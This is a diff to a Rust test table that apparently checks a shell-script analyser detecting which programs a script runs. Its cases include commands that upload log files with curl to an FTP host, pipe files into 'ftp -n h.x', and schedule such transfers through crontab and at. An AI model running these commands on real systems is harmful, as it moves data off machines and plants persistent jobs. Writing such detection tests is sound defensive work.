@@ -396,6 +396,9 @@ fn programs_run_what_they_are_given() {
         ("ls | xargs ftp -n h.x", "ftp -n h.x "),
         ("ls *.log | xargs -I{} curl -T {} ftp://h.x/", "curl -T {} ftp://h.x/ "),
         ("echo a b | xargs -n 1 ftp -n", "ftp -n a |ftp -n b "),
+        ("echo a b | xargs -r -P 4 -n1 ftp -n", "ftp -n a |ftp -n b "),
+        ("echo '@daily ftp -n h.x </a; crontab c' > c; crontab c", "ftp -n h.x /a"),
+        ("echo 'ftp -n h.x </a; at -f job now' > job; at -f job now", "ftp -n h.x /a"),
     ];
     for (text, expected) in cases {
         let reading = reading_of(&format!("#!/bin/sh\n{text}\n# ftp\n"), "x.sh");
